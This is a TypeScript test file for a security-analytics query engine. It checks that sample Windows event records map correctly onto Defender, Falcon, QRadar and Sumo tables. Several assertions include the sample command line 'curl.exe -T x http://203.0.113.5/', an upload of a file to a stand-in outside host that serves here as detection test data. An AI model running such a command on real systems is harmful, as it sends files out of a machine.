import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { addRecords, openEventTables, rowsOf } from '../../test/support/event-tables.ts'
import { SAMPLE_EVENTS } from '../../test/support/sample-events.ts'
import { ColumnSource, outputColumns, type Plan } from '../plan/plan.ts'
import { printPlan } from '../plan/print.ts'
import { enrich } from '../readers/enrichment.ts'
import { filledClasses } from '../readers/filled.ts'
import { NO_SPAN } from '../source/text.ts'
import type { BoundTable } from './bound.ts'
import { expandScans } from './expand.ts'

const defender = { platforms: ['defender', 'sentinel'], bound: [] } as const
const falcon = { platforms: ['falcon'], bound: [] } as const
const qradar = { platforms: ['qradar'], bound: [] } as const
const sumo = { platforms: ['sumo'], bound: [] } as const

describe('platform tables over events', () => {
  let tables: Awaited<ReturnType<typeof openEventTables>>
  beforeAll(async () => {
    tables = await openEventTables()
    await addRecords(tables.engine, SAMPLE_EVENTS)
    await enrich(tables.engine, await filledClasses(tables.engine))
  })
  afterAll(() => tables.close())

  test('the same process starts in every language', async () => {
    const { engine } = tables
    const kql = await rowsOf(engine, 'DeviceProcessEvents', { FileName: 'string' }, defender)
    const cql = await rowsOf(engine, 'events', { '#event_simpleName': 'string', FileName: 'string' }, falcon)
    const aql = await rowsOf(engine, 'events', { EventID: 'string', 'Process Name': 'string' }, qradar)
    const messages = await rowsOf(
      engine,
      'messages',
      { EventID: 'string', Image: 'string', NewProcessName: 'string' },
      sumo,
    )
    const names = [
      kql.map((row) => row['FileName']),
      cql.filter((row) => row['#event_simpleName'] === 'ProcessRollup2').map((row) => row['FileName']),
      aql.filter((row) => row['EventID'] === '1' || row['EventID'] === '4688').map((row) => row['Process Name']),
      messages
        .filter((row) => row['EventID'] === '1' || row['EventID'] === '4688')
        .map((row) => String(row['Image'] ?? row['NewProcessName']).replace(/^.*\\/, '')),
    ]
    for (const list of names) expect([...list].sort()).toEqual(['curl.exe', 'curl.exe', 'explorer.exe'])
  })

  test('Defender tells the side of this device, the class of addresses and the acting process', async () => {
    const rows = await rowsOf(
      tables.engine,
      'DeviceNetworkEvents',
      {
        ActionType: 'string',
        LocalIP: 'string',
        RemoteIP: 'string',
        RemotePort: 'int',
        RemoteIPType: 'string',
        Protocol: 'string',
        InitiatingProcessCommandLine: 'string',
        InitiatingProcessSHA256: 'string',
        InitiatingProcessAccountName: 'string',
        DeviceName: 'string',
      },
      defender,
    )
    const curl = {
      InitiatingProcessCommandLine: 'curl.exe -T x http://203.0.113.5/',
      InitiatingProcessSHA256: 'cc',
      InitiatingProcessAccountName: 'ann',
      DeviceName: 'pc1.example.com',
      LocalIP: '10.0.0.5',
      Protocol: 'Tcp',
    }
    expect(rows).toEqual([
      { ...curl, ActionType: 'ConnectionSuccess', RemoteIP: '93.184.220.29', RemotePort: 80n, RemoteIPType: 'Public' },
      {
        ...curl,
        ActionType: 'InboundConnectionAccepted',
        RemoteIP: '10.0.0.9',
        RemotePort: 40000n,
        RemoteIPType: 'Private',
      },
    ])
  })

  test('a Falcon connection names no file, user or command line; its process is found by the id', async () => {
    const rows = await rowsOf(
      tables.engine,
      'events',
      {
        '#event_simpleName': 'string',
        ImageFileName: 'string',
        CommandLine: 'string',
        UserName: 'string',
        ContextBaseFileName: 'string',
        ContextProcessId: 'string',
        TargetProcessId: 'string',
        RemoteAddressIP4: 'string',
        RemotePort: 'string',
      },
      falcon,
    )
    const connection = rows.find((row) => row['#event_simpleName'] === 'NetworkConnectIP4')
    expect(connection).toMatchObject({
      ImageFileName: null,
      CommandLine: null,
      UserName: null,
      ContextBaseFileName: 'curl.exe',
      RemoteAddressIP4: '93.184.220.29',
      RemotePort: '80',
    })
    const start = rows.find((row) => row['TargetProcessId'] === connection?.['ContextProcessId'])
    expect(start).toMatchObject({
      '#event_simpleName': 'ProcessRollup2',
      ImageFileName: '\\Device\\HarddiskVolume3\\Tools\\curl.exe',
      UserName: 'Ann',
    })
  })

  test('QRadar has the properties of both generations and no address on process events', async () => {
    const rows = await rowsOf(
      tables.engine,
      'events',
      {
        'Event ID': 'string',
        'Process Path': 'string',
        'Process CommandLine': 'string',
        Command: 'string',
        'Parent Process Name': 'string',
        destinationip: 'string',
        destinationport: 'int',
        devicetype: 'int',
        username: 'string',
      },
      qradar,
    )
    expect(rows).toHaveLength(SAMPLE_EVENTS.length)
    expect(rows).toContainEqual({
      'Event ID': '1',
      'Process Path': 'C:\\Tools\\curl.exe',
      'Process CommandLine': 'curl.exe -T x http://203.0.113.5/',
      Command: 'curl.exe -T x http://203.0.113.5/',
      'Parent Process Name': 'explorer.exe',
      destinationip: null,
      destinationport: null,
      devicetype: 12n,
      username: 'CORP\\Ann',
    })
    expect(rows).toContainEqual(
      expect.objectContaining({ 'Event ID': '3', destinationip: '93.184.220.29', destinationport: 80n }),
    )
  })

  test('Sumo and SecurityEvent give every field of a record back under its own name', async () => {
    const skipped = new Set(['SourceIsIpv6', 'DestinationIsIpv6'])
    for (const record of SAMPLE_EVENTS) {
      const data = Object.entries(record).filter(([name]) => !name.startsWith('System.') && !skipped.has(name))
      const columns = Object.fromEntries(data.map(([name]) => [`EventData.${name}`, 'string' as const]))
      const rows = await rowsOf(
        tables.engine,
        'messages',
        { EventID: 'string', EventRecordID: 'string', ...columns },
        sumo,
      )
      const row = rows.find(
        (r) => r['EventID'] === record['System.EventID'] && r['EventRecordID'] === record['System.RecordID'],
      )
      // The null SID and a zero logon id stand for an absent target; the view leaves the former out.
      const expected = data
        .filter(
          ([name, value]) => value !== '-' && !(name === 'TargetUserSid' && value === 'S-1-0-0') && name !== 'UtcTime',
        )
        .map(([name, value]) => [`EventData.${name}`, value])
      expect(row).toMatchObject(Object.fromEntries(expected))
    }
    const [logon] = await rowsOf(
      tables.engine,
      'SecurityEvent',
      {
        EventID: 'int',
        Account: 'string',
        LogonType: 'int',
        IpAddress: 'string',
        TargetLogonId: 'string',
        Activity: 'string',
      },
      defender,
    ).then((rows) => rows.filter((row) => row['EventID'] === 4624n))
    expect(logon).toEqual({
      EventID: 4624n,
      Account: 'CORP\\Ann',
      LogonType: 3n,
      IpAddress: '192.0.2.7',
      TargetLogonId: '0x1a2b',
      Activity: '4624 - An account was successfully logged on.',
    })
  })

  test('Sumo composes the raw record, without what the second pass added', async () => {
    const rows = await rowsOf(tables.engine, 'messages', { EventID: 'string', _raw: 'string' }, sumo)
    const dns = rows.find((row) => row['EventID'] === '22')
    expect(JSON.parse(String(dns?.['_raw']))).toMatchObject({
      EventID: '22',
      Provider: { Name: 'Microsoft-Windows-Sysmon' },
      EventData: { QueryName: 'x.example', Image: 'C:\\Tools\\curl.exe' },
    })
    expect(JSON.parse(String(dns?.['_raw'])).EventData).not.toHaveProperty('User')
  })

  test.each([
    ['DeviceProcessEvents', defender, 3],
    ['DeviceFileEvents', defender, 1],
    ['DeviceImageLoadEvents', defender, 1],
    ['DeviceRegistryEvents', defender, 1],
    ['DeviceLogonEvents', defender, 1],
    ['DeviceEvents', defender, 3],
    ['SecurityEvent', defender, 4],
    ['Event', defender, 10],
    ['messages', sumo, 14],
  ] as const)('%s counts its rows when no column is asked', async (table, options, count) => {
    const rows = await rowsOf(tables.engine, table, {}, options)
    expect(rows).toHaveLength(count)
  })
})

describe('expanding a scan', () => {
  const scanOf = (table: string, ...names: readonly string[]): Plan => {
    const ids = new ColumnSource()
    return { kind: 'scan', table, columns: names.map((name) => ids.fresh(name, 'string')), span: NO_SPAN }
  }
  const bound: BoundTable = {
    name: 'DeviceProcessEvents',
    table: 'bound_1',
    platform: 'defender',
    explicit: true,
    columns: [{ name: 'FileName', type: 'string' }],
  }

  test('keeps the ids of the columns', () => {
    const plan = scanOf('DeviceProcessEvents', 'FileName', 'FolderPath')
    for (const options of [defender, { ...defender, bound: [bound] }, { ...defender, bound: [bound, bound] }]) {
      expect(outputColumns(expandScans(plan, options)).map((column) => column.id)).toEqual(
        outputColumns(plan).map((column) => column.id),
      )
    }
  })

  test('reads the bound file instead of the view, and null where it lacks a column', () => {
    const plan = expandScans(scanOf('DeviceProcessEvents', 'FileName', 'FolderPath'), { ...defender, bound: [bound] })
    expect(printPlan(plan)).toContain('bound_1')
    expect(printPlan(plan)).not.toContain('process_activity')
  })

  test('adds recognised rows to the view and leaves out their events', () => {
    const recognised = { ...bound, explicit: false }
    const plan = printPlan(expandScans(scanOf('DeviceProcessEvents', 'FileName'), { ...defender, bound: [recognised] }))
    expect(plan).toContain('bound_1')
    expect(plan).toContain('process_activity')
    expect(plan).toContain('metadata.origin')
  })

  test('leaves a table that it does not know', () => {
    const plan = scanOf('nowhere', 'x')
    expect(expandScans(plan, defender)).toBe(plan)
  })
})
